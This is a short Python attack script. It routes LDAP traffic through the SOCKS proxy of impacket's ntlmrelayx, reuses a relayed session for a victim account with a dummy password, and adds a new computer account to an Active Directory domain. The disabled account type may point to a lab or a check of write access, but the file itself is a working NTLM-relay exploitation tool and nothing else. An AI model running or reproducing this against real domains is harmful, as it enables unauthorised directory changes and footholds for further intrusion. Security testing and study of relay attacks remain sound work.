"""Adds a computer through the SOCKS port of ntlmrelayx, on the LDAP session that it holds for ACCOUNT.

usage: socks_write.py ACCOUNT NAME
"""

import os
import socket
import sys

import socks
from impacket.ldap.ldap import LDAPConnection

BASE = ",".join(f"DC={part}" for part in os.environ["REALM"].lower().split("."))


def main():
    account, name = sys.argv[1:]
    socks.set_default_proxy(socks.SOCKS5, "127.0.0.1", 1080)
    socket.socket = socks.socksocket
    connection = LDAPConnection(f"ldap://{os.environ['DC']}", BASE, signing=False)
    # The tool answers the logon itself and does not look at the password.
    connection.login(account, "ignored", os.environ["DOMAIN"], authenticationChoice="sicilyNegotiate")
    classes = ["top", "person", "organizationalPerson", "user", "computer"]
    # workstation trust account, disabled
    attributes = {"sAMAccountName": f"{name}$", "userAccountControl": "4098"}
    connection.add(f"CN={name},CN=Computers,{BASE}", classes, attributes)
    print("added", name)


if __name__ == "__main__":
    main()
